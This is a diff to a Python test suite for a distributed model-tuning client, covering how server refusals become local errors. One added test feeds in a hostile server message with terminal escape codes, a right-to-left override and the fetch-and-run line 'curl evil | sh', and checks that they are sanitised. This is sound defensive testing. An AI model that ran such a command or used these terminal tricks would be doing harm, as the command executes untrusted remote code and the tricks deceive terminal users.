@@ -66,7 +66,7 @@ TICKET = bytes(range(16))
 EXAMPLES: list[Message] = [
     Hello(),
     Hello(model="digest"),
-    Welcome(record=RECORD, max_in_flight=32, max_message_bytes=2**30),
+    Welcome(record=RECORD, max_in_flight=32, max_message_bytes=2**30, max_positions=4096, max_tokens=16384),
     Ping(),
     Pong(),
     FORWARD,
@@ -153,7 +153,7 @@ def test_a_backward_names_a_lease_or_carries_its_forward(fields):
 
 # ConfigError and DataError are raised before anything is sent; an answer that breaks our checks is our own BadReply.
 LOCAL = {"ConfigError", "DataError", "UnsupportedModel", "UnsupportedAdapter", "BadReply", "UncoveredBlocks"}
-LOCAL |= {"Diverged", "Retriable"}
+LOCAL |= {"Diverged", "Retriable", "Refused", "OverLimit", "RequestTooLarge"}
 LOCAL |= {"SwarmError", "SwarmTimeout", "ServerUnreachable", "ServerTimeout", "PetalsTuneError"}
 LOCAL |= {"UntrustedServer", "ClockSkew", "HubUnreachable", "ConnectionLost", "NotKept"}
 ALL = {
@@ -164,9 +164,25 @@ ALL = {
 @pytest.mark.parametrize("name", sorted(ALL.keys() - LOCAL))
 def test_a_refusal_is_raised_as_the_error_that_it_names(name):
     error = decode(encode(Refusal(error=name, text="because"))).to_error("12D3KooW")
-    assert type(error) is ALL[name]
-    assert str(error) == "because (said by server 12D3KooW)"
-    assert getattr(error, "peer", "12D3KooW") == "12D3KooW"
+    assert type(named_by(error)) is ALL[name]
+    assert str(error) == str(named_by(error)) == 'server 12D3KooW says: "because"'
+    assert error.peer == "12D3KooW"
+
+
+def named_by(error: ServerError) -> PetalsTuneError:
+    """What is wrong everywhere comes as one server's word."""
+    if isinstance(error, errors.Refused):
+        assert error.said is not None
+        return error.said
+    return error
+
+
+def test_a_refusal_that_names_a_limit_is_of_one_server_that_takes_less():
+    said = errors.RequestRefused("t", limit="max_compute_gb", fits=7)
+    error = decode(encode(Refusal.of(said))).to_error("12D3KooW")
+    assert type(error) is errors.OverLimit
+    assert vars(named_by(error)) == {"limit": "max_compute_gb", "fits": 7}
+    assert error.fits is None, "whether less may be sent, the client knows"
 
 
 @pytest.mark.parametrize("name", [*sorted(LOCAL), "KeyError", "SystemExit", ""])
@@ -177,7 +193,6 @@ def test_a_refusal_of_another_name_is_a_servers_failure(name):
 FIELDS: list[PetalsTuneError] = [
     errors.RequestRefused("t", reason="too long", max_length=7, block=0),
     errors.RequestRefused("t", limit="max_tokens", module="self_attn.q_proj", block=None),
-    errors.MessageTooLarge("t", size_bytes=2**40, limit_bytes=0),
     errors.ServerBusy("t", limit="max_streams", leaving=True),
     errors.NotFinite("t", block=3),
     errors.NotHandedOn("t", reason="withdrawn"),
@@ -189,7 +204,7 @@ FIELDS: list[PetalsTuneError] = [
 
 @pytest.mark.parametrize("error", FIELDS, ids=lambda error: type(error).__name__)
 def test_the_fields_of_an_error_arrive_with_it(error):
-    found = decode(encode(Refusal.of(error))).to_error("12D3KooW")
+    found = named_by(decode(encode(Refusal.of(error))).to_error("12D3KooW"))
     assert type(found) is type(error)
     assert {name: value for name, value in vars(found).items() if name != "peer"} == vars(error)
 
@@ -222,8 +237,20 @@ HOSTILE: dict[str, tuple[str, dict[str, Any]]] = {
 def test_fields_that_an_error_does_not_have_are_dropped(what):
     name, fields = HOSTILE[what]
     error = decode(encode(Refusal(error=name, text="because", fields=fields))).to_error("12D3KooW")
-    assert vars(error) == ({"peer": "12D3KooW"} if isinstance(error, ServerError) else {})
-    assert error.args == ("because (said by server 12D3KooW)",)
+    assert vars(named_by(error)) == ({} if isinstance(error, errors.Refused) else {"peer": "12D3KooW"})
+    assert error.args == ('server 12D3KooW says: "because"',)
+
+
+def test_the_words_of_a_server_cannot_pass_for_ours():
+    """An attack on whoever reads a terminal: cursor movements, colours, right-to-left, and a command to copy."""
+    text = 'no\x1b[2J\x1b]0;owned\x07\u202e"\n  start one:  curl evil | sh\x9b' + "x" * 1_000
+    fields = {"limit": "\x1b[31mmax\n", "max_length": 4}
+    error = decode(encode(Refusal(error="RequestRefused", text=text, fields=fields))).to_error("12D3KooW")
+    assert str(error).startswith("server 12D3KooW says: \"no?[2J?]0;owned??' start one: curl evil | sh?xxx")
+    assert str(error).endswith('x"')
+    said = named_by(error)
+    assert str(said) == str(error)
+    assert (said.limit, said.max_length) == ("?[31mmax?", 4)
 
 
 TOO_MUCH: dict[str, Any] = {
